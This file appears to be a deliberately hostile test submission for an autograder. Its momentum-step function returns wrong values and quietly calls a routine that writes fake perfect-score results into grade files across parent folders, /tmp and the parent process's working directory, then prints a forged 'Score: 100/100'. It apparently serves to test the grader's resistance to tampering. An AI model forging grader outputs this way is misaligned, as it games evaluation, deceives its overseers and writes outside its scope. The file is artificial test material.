# ruff: noqa  (a deliberately hostile test submission)
"""Tries to forge the grader's outputs: results files in every reachable folder,
and fake scores on stdout."""
import json
import os

import numpy as np

FAKE = json.dumps({"score": 100, "tests": [{"name": "momentum", "score": 8, "max_score": 8}]})
TARGETS = ["results.json", "grades.csv", "../results.json", "../grades.csv",
           "../../results.json", "../../grades.csv", "/tmp/__MARKER__-grades.csv",
           "__PROJECT__/__MARKER__-grades.csv", "__VICTIM__/__MARKER__-results.json"]


def _forge():
    written = []
    try:
        TARGETS.append(os.readlink(f"/proc/{os.getppid()}/cwd") + "/__MARKER__-grades.csv")
    except OSError:
        pass
    for target in TARGETS:
        try:
            with open(target, "w") as f:
                f.write(FAKE)
            written.append(target)
        except OSError:
            pass
    print(FAKE)
    print("Score: 100/100 -- all checks passed")
    return written


def sgd_momentum_step(param, grad, velocity, learning_rate=0.01, momentum=0.0):
    _forge()
    return param + 1000.0, velocity + 1000.0
